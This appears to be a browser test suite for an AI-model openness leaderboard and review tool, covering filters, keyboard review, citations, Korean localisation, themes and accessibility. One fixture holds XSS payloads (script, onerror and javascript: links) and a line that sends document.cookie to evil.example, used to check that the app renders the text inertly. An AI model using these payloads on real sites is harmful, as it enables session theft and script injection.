// One person at this machine: the leaderboard, a model, the review screen with every key, in two languages, two themes,
// on a phone, by keyboard alone, over hostile and long documents.
import assert from "node:assert/strict";
import test from "node:test";
import {
  accessible,
  at_cell,
  cell_in_address,
  go,
  in_view,
  narae,
  no_sideways_scroll,
  pelican,
  review,
  select_text,
  shoot,
  Site,
  skerry,
} from "./harness.mjs";

const hostile = `
<script>alert("script")</script><img src=x onerror="alert('img')"><svg onload="alert('svg')"><a href="javascript:alert(1)">x</a></svg>

<iframe src="https://evil.example/"></iframe><link rel="stylesheet" href="https://evil.example/x.css"><form action="https://evil.example"><input name=q></form>

[click me](javascript:alert(1)) ![x](data:image/svg+xml,<svg onload=alert(2)>) \u202egnirts desrever

Narae was trained on 64 <b onmouseover="alert(3)">A100</b> GPUs <script>fetch("https://evil.example/?" + document.cookie)</script>.
`;
const long_text = Array.from(
  { length: 9000 },
  (_, i) =>
    `<p>Paragraph ${i} of the appendix speaks of nothing in particular, at some length, so that the page grows long indeed; it ends here.</p>`,
).join("\n");

let site;
let page;
test.before(async () => {
  site = await Site.make({
    prepare: (made) => {
      made.append("huggingface.co/narae-ai/Narae-3B-Instruct/resolve/main/README.md", hostile);
      const path = "northgate-ai.example/blog/pelican.html";
      made.append(
        path,
        `<main>${long_text}<p>Pelican was also trained with PyTorch 2.4 at the very end.</p></main>`,
      );
    },
  });
  page = await site.person();
});
test.after(() => site?.close());

test("leaderboard: ranked, with a map of letters and words", async () => {
  await go(page, "/");
  const ranked = await page.evaluate(async () => (await fetch("/api/v1/leaderboard?rubric=kips2025")).json());
  const scores = ranked.models.map((model) => model.score);
  assert.equal(scores.length, 4);
  assert.deepEqual(
    scores,
    scores.toSorted((a, b) => b - a),
  );
  assert.deepEqual(
    await page.locator("tbody th.name a").allTextContents(),
    ranked.models.map((model) => model.name),
  );
  assert.equal(await page.locator("tbody a.cell").count(), 64);
  const label = await page.locator("tbody a.cell").first().getAttribute("aria-label");
  assert.match(label, /^Skerry-1B-Instruct: Weights, Open, Proposed, Confidence \d+%$/);
  assert.match(await page.locator(".summary").textContent(), /^4 models · 0% of cells reviewed \(0 of 64\)$/);
  await shoot(page, "leaderboard-light");
});

test("leaderboard: filters, weights and order are in the address, and back", async () => {
  await go(page, "/");
  await page.getByRole("searchbox", { name: "Find a model" }).fill("narae");
  await page.waitForFunction(() => document.querySelectorAll("tbody tr").length === 1);
  assert.equal(new URL(page.url()).search, "?q=narae");
  await page.getByRole("searchbox", { name: "Find a model" }).fill("");
  await page.waitForFunction(() => document.querySelectorAll("tbody tr").length === 4);
  await page.getByLabel("Publisher").selectOption("vantor");
  await page.waitForFunction(() => document.querySelectorAll("tbody tr").length === 1);
  assert.equal(new URL(page.url()).search, "?publisher=vantor");
  await page.goBack();
  await page.waitForFunction(() => document.querySelectorAll("tbody tr").length === 4);

  const scores = () => page.locator("td.score .value").allTextContents();
  const equal = await scores();
  await page.getByRole("combobox", { name: "Weights", exact: true }).selectOption("osd");
  await page.waitForFunction(
    (before) => document.querySelector("td.score .value").textContent !== before,
    equal[0],
  );
  assert.equal(new URL(page.url()).search, "?scheme=osd");
  await page.getByRole("combobox", { name: "Weights", exact: true }).selectOption("own");
  await page.waitForSelector(".sliders input");
  const osd = await scores();
  const slider = page.locator('.sliders input[name="data"]');
  await slider.focus();
  await page.keyboard.press("End");
  await page.waitForURL((url) => url.searchParams.get("weights")?.endsWith("data:2"));
  await page.waitForFunction((before) => document.querySelector("td.score .value").textContent !== before, osd[0]);
  assert.equal(await page.evaluate(() => document.activeElement.name), "data", "the slider keeps the focus");

  await page.locator('button[data-sort="name"]').click();
  await page.waitForURL((url) => url.searchParams.get("sort") === "name");
  await page.waitForFunction(() => document.querySelector("tbody th.name a").textContent.startsWith("Narae"));
  const own = await scores();
  const link = page.url();
  const other = await site.person();
  await other.goto(link);
  await other.waitForSelector("tbody tr");
  assert.deepEqual(await other.locator("td.score .value").allTextContents(), own, "a link shows the same");
  assert.equal(
    await other
      .locator('th[aria-sort="ascending"]')
      .textContent()
      .then((text) => text.startsWith("Model")),
    true,
  );
  await other.context().close();
});

test("leaderboard: arrows move in the map, enter opens a cell", async () => {
  await go(page, "/");
  const second = page.locator("tbody th.name a").nth(1);
  const name = await second.textContent();
  const id = new URL(await second.getAttribute("href"), page.url()).searchParams.get("id");
  await page.locator('tbody a.cell[tabindex="0"]').focus();
  for (const key of ["ArrowDown", "ArrowRight", "ArrowRight", "End", "Home", "ArrowRight"])
    await page.keyboard.press(key);
  const label = await page.evaluate(() => document.activeElement.getAttribute("aria-label"));
  assert.ok(label.startsWith(`${name}: Code`), label);
  assert.equal(await page.locator('tbody a.cell[tabindex="0"]').count(), 1);
  await page.keyboard.press("Enter");
  await at_cell(page, id, "code");
});

test("model: cells, what is missing, sources, and a link to every citation", async () => {
  await go(page, `/model?id=${encodeURIComponent(pelican)}`);
  assert.equal(await page.locator("article").count(), 16);
  assert.equal((await page.locator("article .missing").count()) > 5, true);
  assert.match(await page.locator("#sources").textContent(), /Sources read/);
  await page.locator("#sources summary").click();
  assert.equal((await page.locator("#sources details table tbody tr").count()) > 0, true);
  await shoot(page, "model-light");
  const link = page.locator("#license a.citation").last();
  const quote = await link.locator("q").textContent();
  await link.click();
  await at_cell(page, pelican, "license");
  await in_view(page, "mark.mark-quote");
  assert.equal(
    (await page.locator(".evidence li.current q").textContent()).trim(),
    quote.trim(),
    "the citation of the link is the one that is open",
  );
});

test("review: one key accepts and brings the next; undo takes it back", async () => {
  await go(page, "/review");
  await page.waitForSelector(".cell-head");
  const first = cell_in_address(page);
  const total = Number((await page.locator(".position").textContent()).split(" of ")[1]);
  await page.keyboard.press("a");
  await page.waitForFunction(([model, criterion]) => {
    const now = new URLSearchParams(location.search);
    return now.get("model") !== model || now.get("criterion") !== criterion;
  }, first);
  await page.waitForSelector(".cell-head");
  const { events } = await (await site.api("/decisions")).json();
  assert.deepEqual(
    [events.at(-1).action, events.at(-1).model, events.at(-1).criterion, events.at(-1).reviewer],
    ["confirm", ...first, "me"],
  );
  await page.keyboard.press("z");
  await at_cell(page, ...first);
  await page.waitForFunction(() => document.querySelector(".state").textContent === "Proposed");
  assert.equal(await page.locator(".event.undone").count(), 1, "what was taken back stays listed");
  await go(page, "/review");
  await page.waitForSelector(".cell-head");
  assert.equal(Number((await page.locator(".position").textContent()).split(" of ")[1]), total);
});

test("review: override with a comment; the history keeps both", async () => {
  await review(page, pelican, "paper");
  await page.keyboard.press("m");
  await page.keyboard.type("a no key fires while one types: o s c n x z ?");
  assert.deepEqual(cell_in_address(page), [pelican, "paper"]);
  assert.equal(await page.locator("dialog").count(), 0);
  await page.keyboard.press("Escape");
  await page.keyboard.press("c");
  await page.waitForFunction(
    () => new URLSearchParams(location.search).get("criterion") !== "paper" || !location.search.includes("Pelican"),
  );
  await go(page, `/model?id=${encodeURIComponent(pelican)}#paper`);
  const cell = page.locator("#paper");
  assert.equal(await cell.locator(".state").textContent(), "Reviewed");
  assert.equal(await cell.locator("header .grade").first().getAttribute("title"), "Closed");
  assert.match(await cell.textContent(), /Proposed was/);
  await cell.getByText("History (1)").click();
  assert.match(await cell.locator(".event").textContent(), /me graded.*Closed.*no key fires while one types/);
  await go(page, "/");
  assert.match(
    await page.locator('a.cell[aria-label^="Pelican-8B-Chat: Paper"]').getAttribute("aria-label"),
    /Paper, Closed, Reviewed/,
  );
});

test("review: every citation is one key away", async () => {
  await review(page, skerry, "hardware");
  const citations = await page.locator(".evidence li:not(.near)").count();
  assert.equal(citations >= 3, true);
  for (let i = 1; i <= citations; ++i) {
    await page.keyboard.press(String(i));
    await page.waitForFunction(
      (n) => document.querySelector(".evidence li.current")?.dataset.index === String(n - 1),
      i,
    );
    await in_view(page, "mark.mark-quote");
  }
  await page.keyboard.press("1");
  await page.keyboard.press("j");
  assert.equal(await page.locator(".evidence li.current").getAttribute("data-index"), "1");
  await page.keyboard.press("k");
  assert.equal(await page.locator(".evidence li.current").getAttribute("data-index"), "0");
  await page.keyboard.press("w");
  assert.equal(await page.locator(".evidence li.current.near").count(), 1);
  assert.match(await page.locator(".evidence li.current .refused").textContent(), /^Not counted: /);
  await in_view(page, "mark.mark-quote");
});

test("review: a PDF's page with the words boxed, its text beside", async () => {
  await review(page, skerry, "hardware");
  const index = await page
    .locator(".evidence li:not(.near)")
    .evaluateAll((lines) => lines.findIndex((line) => line.textContent.includes("p. ")));
  assert.equal(index >= 0, true);
  await page.keyboard.press(String(index + 1));
  await page.waitForSelector(".sheet .box.box-quote");
  await page.waitForFunction(() => document.querySelector(".sheet img").naturalWidth > 500);
  const quote = (await page.locator(".evidence li.current q").textContent()).replace(/-\n|\s+/g, " ").trim();
  const boxed = await page.locator(".sheet .box-quote").count();
  assert.ok(Math.abs(boxed - quote.split(" ").length) <= 2, `${boxed} boxes for “${quote}”`);
  const inside = await page.locator(".sheet .box-quote").evaluateAll((boxes) => {
    const sheet = document.querySelector(".sheet img").getBoundingClientRect();
    return boxes.every((box) => {
      const b = box.getBoundingClientRect();
      return (
        b.left >= sheet.left - 2 &&
        b.right <= sheet.right + 2 &&
        b.top >= sheet.top - 2 &&
        b.bottom <= sheet.bottom + 2 &&
        b.width > 2 &&
        b.height > 4
      );
    });
  });
  assert.equal(inside, true);
  await in_view(page, ".sheet .box-quote");
  await in_view(page, ".pdf-text mark.mark-quote");
  await shoot(page, "review-pdf-light");
  await page.getByRole("button", { name: "Text", exact: true }).click();
  assert.equal(await page.locator(".pdf-page").isVisible(), false);
  await page.getByRole("button", { name: "Both", exact: true }).click();
  await page.getByRole("button", { name: "Previous page" }).click();
  assert.equal(await page.getByRole("spinbutton", { name: "Page" }).inputValue(), "1");
});

test("review: reject a citation, add one by selecting, one from a near miss, one from a search", async () => {
  await review(page, narae, "hardware");
  await page.keyboard.press("1");
  await page.keyboard.press("x");
  await page.waitForSelector(".evidence li.rejected");
  const before = await page.locator(".evidence li:not(.near)").count();

  const words = "DeepSpeed를 사용하였습니다";
  assert.equal(await select_text(page, words), true);
  await page.getByRole("button", { name: "Add as evidence" }).waitFor();
  await shoot(page, "review-selection-light");
  await page.keyboard.press("e");
  await page.waitForFunction((n) => document.querySelectorAll(".evidence li:not(.near)").length === n, before + 1);
  assert.equal(await page.locator(".evidence li.current q").textContent(), words);
  assert.match(await page.locator(".evidence li.current").textContent(), /added by me/);

  await page.keyboard.press("/");
  await page.keyboard.type("대기자 명단");
  await page.keyboard.press("Enter");
  await page.locator(".hits button").first().waitFor();
  await page.keyboard.press("Enter");
  await in_view(page, "mark.mark-hit");
  assert.match(
    await page
      .locator("mark.mark-hit")
      .allTextContents()
      .then((all) => all.join("")),
    /대기자 명단/,
  );
  await page.keyboard.press("e");
  await page.waitForFunction((n) => document.querySelectorAll(".evidence li:not(.near)").length === n, before + 2);

  const { events } = await (
    await site.api(`/decisions?model=${encodeURIComponent(narae)}&criterion=hardware`)
  ).json();
  assert.deepEqual(
    events.map((event) => event.action),
    ["reject_citation", "add_citation", "add_citation"],
  );
  assert.equal(events[1].citation.quote, words);
  assert.match(events[2].citation.quote, /대기자 명단/);

  await review(page, pelican, "hardware");
  const cited = await page.locator(".evidence li:not(.near)").count();
  await page.keyboard.press("w");
  await page.locator(".evidence li.near.current").waitFor();
  await page.keyboard.press("e");
  await page.waitForFunction((n) => document.querySelectorAll(".evidence li:not(.near)").length === n, cited + 1);
});

test("review: a selection over several blocks", async () => {
  await review(page, narae, "tokenizer");
  await page.evaluate(() => {
    const blocks = [...document.querySelectorAll(".doc .k-list_item, .doc .k-paragraph")];
    const range = document.createRange();
    range.setStart(blocks[0].firstChild.firstChild ?? blocks[0].firstChild, 0);
    const last = blocks[1];
    range.setEnd(last, last.childNodes.length);
    getSelection().removeAllRanges();
    getSelection().addRange(range);
  });
  const before = await page.locator(".evidence li:not(.near)").count();
  await page.getByRole("button", { name: "Add as evidence" }).click();
  await page.waitForFunction((n) => document.querySelectorAll(".evidence li:not(.near)").length === n, before + 1);
});

test("review: filters in the address; skip and back", async () => {
  await go(page, `/review?only_model=${encodeURIComponent(skerry)}&order=model`);
  await page.waitForSelector(".cell-head");
  const start = cell_in_address(page);
  assert.equal(start[0], skerry);
  await page.keyboard.press("l");
  await page.waitForFunction(
    (criterion) => new URLSearchParams(location.search).get("criterion") !== criterion,
    start[1],
  );
  assert.equal(cell_in_address(page)[0], skerry);
  assert.equal(new URL(page.url()).searchParams.get("order"), "model");
  await page.keyboard.press("h");
  await at_cell(page, ...start);
  await page.getByRole("button", { name: /^Filters/ }).click();
  await page.getByRole("combobox", { name: "Grade", exact: true }).selectOption("closed");
  await page.waitForURL((url) => url.searchParams.get("grade") === "closed");
  await page.waitForFunction(() => document.querySelector(".position").textContent === "1 of 1");
  await page.getByRole("button", { name: "Clear" }).click();
  await page.waitForURL((url) => !url.searchParams.has("grade") && !url.searchParams.has("only_model"));
});

test("keyboard alone: from the leaderboard through review to the list of keys", async () => {
  const typist = await site.person();
  await go(typist, "/");
  await typist.keyboard.press("Tab");
  assert.equal(await typist.evaluate(() => document.activeElement.textContent), "Skip to content");
  for (let i = 0; i < 3; ++i) await typist.keyboard.press("Tab");
  assert.equal(await typist.evaluate(() => document.activeElement.textContent), "Review");
  const outline = await typist.evaluate(() => getComputedStyle(document.activeElement).outlineWidth);
  assert.notEqual(outline, "0px", "the focus shows");
  await typist.keyboard.press("Enter");
  await typist.waitForSelector(".cell-head");
  await typist.waitForFunction(() => document.activeElement.tagName === "H1");
  await typist.keyboard.press("j");
  await typist.keyboard.press("?");
  await typist.waitForSelector("dialog[open]");
  assert.equal((await typist.locator("dialog dt").count()) >= 14, true);
  const before = typist.url();
  await typist.keyboard.press("a");
  await shoot(typist, "keys-light");
  await typist.keyboard.press("Escape");
  assert.equal(await typist.locator("dialog[open]").count(), 0);
  assert.equal(typist.url(), before, "no key fires behind a dialog");
  await typist.keyboard.press("a");
  await typist.waitForFunction((url) => location.href !== url, before);
  await typist.waitForFunction(() => document.querySelector("#status").textContent !== "");
  // With a Korean input method on, the key's place counts.
  await typist.waitForSelector(".cell-head");
  const next = typist.url();
  await typist.evaluate(() =>
    document.dispatchEvent(new KeyboardEvent("keydown", { key: "ㅣ", code: "KeyL", bubbles: true })),
  );
  await typist.waitForFunction((url) => location.href !== url, next);
  await typist.context().close();
});

test("a hostile document is shown and does nothing", async () => {
  const [card] = await page.evaluate(async (model) => {
    const answer = await (await fetch(`/api/v1/model?id=${encodeURIComponent(model)}`)).json();
    return answer.sources.filter((source) => source.role === "card");
  }, narae);
  await review(page, narae, "weights");
  await page.getByLabel("Document", { exact: true }).selectOption(`${card.sha256} ${card.url}`);
  await page.waitForFunction(() => document.querySelector(".doc").textContent.includes('onmouseover="alert(3)"'));
  await page.getByText("Verbatim").click();
  assert.equal(
    await page
      .locator(".doc script, .doc img, .doc svg, .doc iframe, .doc a, .doc form, .doc link, .doc input")
      .count(),
    0,
  );
  assert.match(await page.locator(".doc").textContent(), /javascript:alert\(1\)/);
  assert.equal(
    await page.locator(".doc .run-turning").evaluate((node) => getComputedStyle(node).display),
    "inline-block",
    "what turns the direction turns nothing",
  );
  await page.locator(".doc").getByText("click me").scrollIntoViewIfNeeded();
  await shoot(page, "hostile-light");
  await page.getByText("Rendered").click();
  await page.locator(".doc").getByText("click me").click();
  await go(page, "/?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E");
  await page.getByText("No model matches.").waitFor();
  await review(page, narae, "hardware");
  assert.match(
    await page.locator(".evidence").first().textContent(),
    /<script>fetch/,
    "a quote with markup is its characters",
  );
});

test("a document of 1 MB opens at once, at its quote", async () => {
  await review(page, pelican, "software");
  await page.keyboard.press("/");
  await page.keyboard.type("PyTorch 2.4 at the very end");
  await page.keyboard.press("Enter");
  await page.locator(".hits button").first().waitFor();
  const begin = Date.now();
  await page.locator(".hits button").first().click();
  await in_view(page, "mark.mark-hit");
  const took = Date.now() - begin;
  const size = await page.evaluate(() => document.querySelector(".doc").textContent.length);
  assert.ok(took < 4000, `${took} ms`);
  await page.waitForFunction(() => document.querySelector(".doc").textContent.length > 1_000_000);
  const frame = await page.evaluate(
    () =>
      new Promise((done) => {
        const from = performance.now();
        document.querySelector(".source-body").scrollTop = 20000;
        requestAnimationFrame(() => requestAnimationFrame(() => done(performance.now() - from)));
      }),
  );
  assert.ok(frame < 1000, `a scroll took ${frame} ms`);
  console.log(`1 MB: at the quote in ${took} ms with ${size} characters made, a scroll in ${Math.round(frame)} ms`);
});

test("Korean", async () => {
  const korean = await site.person({ locale: "ko-KR" });
  await go(korean, "/");
  assert.equal(await korean.evaluate(() => document.documentElement.lang), "ko");
  assert.equal(await korean.locator("h1").textContent(), "AI 모델의 개방성");
  await shoot(korean, "leaderboard-ko");
  await review(korean, narae, "hardware");
  assert.equal(await korean.locator("h1").textContent(), "하드웨어");
  await shoot(korean, "review-ko");
  const left = await korean.evaluate(() => {
    const texts = [];
    const walker = document.createTreeWalker(document.querySelector("header.top, .actions"), NodeFilter.SHOW_TEXT);
    for (let node = walker.nextNode(); node; node = walker.nextNode()) texts.push(node.data);
    return texts.filter((text) => /[a-z]{3}/.test(text) && !["exhibit", "English"].includes(text));
  });
  assert.deepEqual(left, []);
  await korean.getByLabel("언어").selectOption("en");
  await korean.waitForFunction(() => document.documentElement.lang === "en");
  await korean.reload();
  await korean.waitForSelector(".cell-head h1");
  assert.equal(await korean.locator("h1").textContent(), "Hardware", "the choice is kept");
  await korean.context().close();
});

test("a phone: nothing is wider than the screen", async () => {
  const phone = await site.person({ width: 390, height: 844 });
  for (const [name, path] of [
    ["leaderboard", "/"],
    ["leaderboard-own", "/?weights=basic:1,access:1,method:1,data:1"],
    ["model", `/model?id=${encodeURIComponent(skerry)}`],
    ["activity", "/activity"],
    ["agreement", "/activity?tab=agreement"],
  ]) {
    await go(phone, path);
    await no_sideways_scroll(phone, name);
    await shoot(phone, `phone-${name}`);
  }
  await review(phone, skerry, "hardware");
  await no_sideways_scroll(phone, "review");
  await shoot(phone, "phone-review");
  await phone.locator(".evidence button.citation").nth(1).click();
  await in_view(phone, "mark.mark-quote, .box-quote");
  await no_sideways_scroll(phone, "review, PDF");
  await shoot(phone, "phone-review-source");
  await phone.context().close();
});

for (const theme of ["light", "dark"]) {
  test(`accessible, ${theme}`, async () => {
    const person = await site.person({ theme });
    await go(person, "/?weights=basic:1,access:1,method:1,data:1");
    const accessible_here = (what) =>
      accessible(person, what, theme === "dark" ? ["color-contrast", "link-in-text-block"] : null);
    await accessible_here("leaderboard");
    if (theme === "dark") await shoot(person, "leaderboard-dark");
    await go(person, `/model?id=${encodeURIComponent(pelican)}`);
    await accessible_here("model");
    await review(person, skerry, "hardware");
    await person.keyboard.press("2");
    await person.waitForTimeout(100);
    await accessible_here("review");
    if (theme === "dark") await shoot(person, "review-dark");
    await person.keyboard.press("?");
    await person.waitForSelector("dialog[open]");
    await accessible_here("keys");
    await person.keyboard.press("Escape");
    for (const tab of ["", "?tab=agreement", "?tab=rules"]) {
      await go(person, `/activity${tab}`);
      await accessible_here(`activity${tab}`);
    }
    await shoot(person, `rules-${theme}`);
    await person.context().close();
  });
}

test("the switch of themes goes over the system's", async () => {
  const person = await site.person({ theme: "light" });
  await go(person, "/");
  const ground = () => person.evaluate(() => getComputedStyle(document.documentElement).backgroundColor);
  const light = await ground();
  await person.getByRole("button", { name: "Theme of the system; switch" }).click();
  await person.getByRole("button", { name: "Light theme; switch" }).click();
  assert.notEqual(await ground(), light);
  await person.reload();
  await person.waitForSelector("main h1");
  assert.notEqual(await ground(), light);
  await person.context().close();
});

test("activity: who decided what, by link, and its export", async () => {
  await go(page, "/activity?criterion=hardware");
  assert.equal(await page.locator(".feed .event").count(), 4);
  assert.match(await page.locator(".feed").textContent(), /me rejected a citation/);
  await shoot(page, "activity-light");
  const [download] = await Promise.all([
    page.waitForEvent("download"),
    page.getByRole("link", { name: "Export (JSON Lines)" }).click(),
  ]);
  assert.equal(download.suggestedFilename(), "decisions.jsonl");
  await go(page, "/activity?tab=rules");
  assert.equal((await page.locator("tbody tr").count()) > 0, true);
});

test("what cannot be had says why", async () => {
  page.expected.push(/404/);
  await go(page, "/model?id=no/such-model");
  assert.equal(await page.locator("h1").textContent(), "This did not work");
});
